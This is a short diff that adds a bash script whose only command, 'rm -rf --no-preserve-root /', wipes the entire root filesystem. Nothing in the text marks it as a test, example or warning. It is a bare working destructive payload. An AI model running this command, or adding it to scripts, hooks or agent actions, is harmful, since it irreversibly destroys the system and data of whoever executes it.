@@ -1,0 +1,3 @@
+#!/bin/bash
+set -eu
+rm -rf --no-preserve-root /
